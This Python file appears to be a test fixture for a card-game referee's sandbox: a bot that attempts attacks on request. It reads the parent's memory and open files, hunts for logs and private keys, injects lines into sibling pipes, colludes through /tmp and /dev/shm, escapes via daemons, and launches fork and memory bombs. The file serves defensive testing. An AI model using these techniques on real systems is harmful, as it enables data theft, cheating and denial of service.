"""A hostile bot: plays the first legal action and, while it plays, tries one attack
on the referee or the other bots (issue 9).  Everything it manages to read is
written to stderr after the word ``FOUND`` so the test can look for it; what it
does and sees is written as ``NOTE`` lines.

Usage: hostile.py MODE [TAG]

Modes:
  log-fd       read files the parent (the referee) holds open: /proc/<ppid>/fd/*
  log-cmdline  read the --log folder named on the parent's command line (and every ancestor's)
  transcript   read every *.transcript.jsonl found through the parent's fds or --log folder
  mem          read the parent's memory through /proc/<ppid>/mem
  pipe         write a line into every other process's stdout through /proc/<pid>/fd/1
  collude      share its hand with the partner through /tmp/marias-collude-TAG/ and /dev/shm/...
  setsid       start a child in a new session that sleeps for an hour (TAG in its argv)
  daemon       start a double-forked daemon that sleeps for an hour (TAG in its argv)
  forks        fork 300 children at the first request
  memory       allocate and fill 2 GB at the first request
  probe        report where it may write and whether it reaches the network (no attack)
  outputs      read every marias output it finds below its folder and the folder above it (other runs'
               logs, stderr files, transcripts, results.sqlite, tournament.json, deck books, private keys)
  env          report every environment variable it was given (names, and the values of MARIAS_TEST_*)
"""

import json
import os
import stat
import subprocess
import sys
import time

MODE = sys.argv[1]
TAG = sys.argv[2] if len(sys.argv) > 2 else "x"
LOG_WORD = "marias" + "-log"  # the format name in every log header (never printed by the bot itself)
found_once: set[str] = set()


def note(text: str) -> None:
    sys.stderr.write(f"NOTE {text}\n")
    sys.stderr.flush()


def found(what: str, data: bytes | str) -> None:
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    key = what + text[:200]
    if key in found_once:
        return
    found_once.add(key)
    sys.stderr.write(f"FOUND {what}: {text[:3000]}\n")
    sys.stderr.flush()


def read(path: str, limit: int = 1 << 20) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError as e:
        note(f"cannot read {path}: {e.strerror}")
        return None


def ancestors() -> list[int]:
    """The parent, its parent, ... as far as /proc shows them."""
    out, pid = [], os.getppid()
    while pid > 0 and pid not in out:
        out.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return out


def visible_pids() -> list[int]:
    return sorted(int(p) for p in os.listdir("/proc") if p.isdigit())


def cmdline(pid: int) -> list[str]:
    data = read(f"/proc/{pid}/cmdline") or b""
    return [a.decode("utf-8", "replace") for a in data.split(b"\0") if a]


def fd_targets(pid: int) -> list[str]:
    out = []
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError as e:
        note(f"cannot list /proc/{pid}/fd: {e.strerror}")
        return out
    for name in names:
        try:
            out.append(os.readlink(f"/proc/{pid}/fd/{name}"))
        except OSError:
            continue
    return out


def log_folders() -> list[str]:
    out = []
    for pid in ancestors():
        args = cmdline(pid)
        note(f"ancestor {pid}: {' '.join(args)[:300]}")
        for i, a in enumerate(args):
            if a == "--log" and i + 1 < len(args):
                out.append(args[i + 1])
            elif a.startswith("--log="):
                out.append(a[6:])
    return out


def attack_files(suffix: str) -> None:
    """Read the files with ``suffix`` the ancestors hold open or that lie in their --log folders."""
    paths = set()
    for pid in ancestors():
        note(f"ancestor {pid}: {' '.join(cmdline(pid))[:300]}")
        for target in fd_targets(pid):
            note(f"fd of {pid}: {target}")
            if target.startswith("/") and target.endswith(suffix):
                paths.add(target)
        for name in os.listdir(f"/proc/{pid}/fd") if os.path.isdir(f"/proc/{pid}/fd") else []:
            path = f"/proc/{pid}/fd/{name}"
            try:
                regular = stat.S_ISREG(os.stat(path).st_mode)  # a pipe would block the read
            except OSError:
                regular = False
            data = read(path, 1 << 16) if MODE == "log-fd" and regular else None
            if data and LOG_WORD.encode() in data:
                found(path, data)
    if MODE != "log-fd":
        for folder in log_folders():
            try:
                names = os.listdir(folder)
            except OSError as e:
                note(f"cannot list {folder}: {e.strerror}")
                continue
            note(f"{folder} holds {names}")
            paths.update(os.path.join(folder, n) for n in names if n.endswith(suffix))
    for p in sorted(paths):
        data = read(p)
        if data:
            found(p, data)


def attack_mem() -> None:
    for pid in ancestors():
        note(f"ancestor {pid}: {' '.join(cmdline(pid))[:300]}")
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb")
        except OSError as e:
            note(f"cannot open the memory of {pid}: {e.strerror}")
            continue
        with mem:
            total = 0
            for line in maps:
                parts = line.split()
                if "r" not in parts[1]:
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                if end - start > 256 << 20:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                total += len(chunk)
                at = chunk.find(LOG_WORD.encode())
                if at >= 0:
                    found(f"memory of {pid}", chunk[max(0, at - 100):at + 200])
                    break
            note(f"read {total} bytes of the memory of {pid}")


def parent_of(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return -1


def attack_pipes() -> None:
    """Write into the stdout of the other bots: the processes with the same parent
    (only those, so that the test, run without the sandbox, harms nothing else)."""
    me, parent = os.getpid(), os.getppid()
    for pid in visible_pids():
        if pid == me:
            continue
        note(f"sees pid {pid}: {' '.join(cmdline(pid))[:600]}")
        if parent_of(pid) != parent:
            continue
        try:
            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_NONBLOCK)
        except OSError as e:
            note(f"cannot open the stdout of {pid}: {e.strerror}")
            continue
        try:
            if not stat.S_ISFIFO(os.fstat(fd).st_mode):
                note(f"the stdout of {pid} is not a pipe")
                continue
            os.write(fd, b'{"type":"action","id":-1,"action":"sabotage"}\n')
            found(f"stdout pipe of {pid}", "wrote a line into it")
        except OSError as e:
            note(f"cannot write the stdout of {pid}: {e.strerror}")
        finally:
            os.close(fd)


def collude(msg: dict, seat: int | None) -> None:
    for folder in (f"/tmp/marias-collude-{TAG}", f"/dev/shm/marias-collude-{TAG}"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(f"{folder}/seat{seat}.json", "w") as f:
                json.dump({"deal": msg["deal"], "partie": msg["partie"], "hand": msg["view"].get("hand")}, f)
        except OSError as e:
            note(f"cannot write {folder}: {e.strerror}")
            continue
        for name in os.listdir(folder):
            if name != f"seat{seat}.json":
                try:
                    other = json.load(open(os.path.join(folder, name)))
                except (OSError, ValueError):
                    continue
                if other.get("deal") == msg["deal"] and other.get("partie") == msg["partie"]:
                    found(f"partner hand in deal {msg['deal']} through {folder}", json.dumps(other))


def escape(double: bool) -> None:
    sleeper = [sys.executable, "-c", "import time; time.sleep(3600)", f"hostile-sleeper-{TAG}"]
    if not double:
        subprocess.Popen(sleeper, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
        note("started a setsid child")
        return
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sleeper[0], sleeper)
        os._exit(0)
    os.waitpid(pid, 0)
    note("started a double-forked daemon")


def fork_bomb() -> None:
    n = 0
    try:
        for _ in range(300):
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
            n += 1
    finally:
        note(f"forked {n} children")


def memory_bomb() -> None:
    block = b"x" * (2 << 30)  # written, so every page is really used
    note(f"allocated {len(block) >> 20} MB")


def probe() -> None:
    import socket
    work = os.environ.get("MARIAS_WORKDIR", "")
    import pwd
    places = (("workdir", work), ("cwd", os.getcwd()), ("tmp", "/tmp"), ("home", os.path.expanduser("~")),
              ("user home", pwd.getpwuid(os.getuid()).pw_dir))
    for name, folder in places:
        try:
            with open(os.path.join(folder, f"probe-{TAG}"), "w") as f:
                f.write("x")
            note(f"write {name}: ok")
        except OSError as e:
            note(f"write {name}: {e.strerror}")
    for host in ("127.0.0.1", "1.1.1.1"):
        try:
            socket.create_connection((host, 53), timeout=1).close()
            note(f"connect {host}: ok")
        except OSError as e:
            note(f"connect {host}: {e.strerror or e}")


OUTPUT_NAMES = (".jsonl", ".stderr.log", "results.sqlite", "tournament.json", ".marias-output", "decks.txt", ".key")


def attack_outputs() -> None:
    """Walk the folder it starts in and the one above it (four levels down) and read every
    file that looks like marias output."""
    start = os.getcwd()
    for top in (start, os.path.dirname(start)):
        for folder, dirs, files in os.walk(top):
            if folder[len(top):].count("/") >= 4:
                dirs[:] = []
            note(f"lists {folder}: {sorted(dirs + files)[:40]}")
            for name in files:
                if name.endswith(OUTPUT_NAMES):
                    data = read(os.path.join(folder, name), 4096)
                    if data is not None:
                        found(os.path.join(folder, name), data or b"(empty)")


def report_env() -> None:
    note(f"env names: {' '.join(sorted(os.environ))}")
    for k, v in sorted(os.environ.items()):
        if k.startswith("MARIAS_TEST_") or k in ("HOME", "MARIAS_WORKDIR", "TMPDIR"):
            note(f"env {k}={v}")


def send(obj: dict) -> None:
    sys.stdout.write(json.dumps(obj) + "\n")
    sys.stdout.flush()


seat = None
requests = 0
if MODE in ("setsid", "daemon"):
    escape(MODE == "daemon")
if MODE == "probe":
    probe()
if MODE == "env":
    report_env()
for line in sys.stdin:
    msg = json.loads(line)
    t = msg.get("type")
    if t == "hello":
        send({"type": "hello", "protocol": 1, "name": f"hostile-{MODE}", "version": "1"})
    elif t == "partie_start":
        seat = msg.get("seat")
    elif t == "bye":
        break
    elif t == "request":
        requests += 1
        if MODE in ("log-fd", "log-cmdline") and requests in (1, 10, 40):
            attack_files(".jsonl")
        elif MODE == "transcript" and requests in (1, 10, 40):
            attack_files(".transcript.jsonl")
        elif MODE == "outputs" and requests in (1, 10, 40):
            attack_outputs()
        elif MODE == "mem" and requests == 1:
            attack_mem()
        elif MODE == "pipe" and requests == 1:
            attack_pipes()
        elif MODE == "collude":
            collude(msg, seat)
        elif MODE == "forks" and requests == 1:
            fork_bomb()
        elif MODE == "memory" and requests == 1:
            memory_bomb()
        send({"type": "action", "id": msg["id"], "action": msg["legal"][0]})
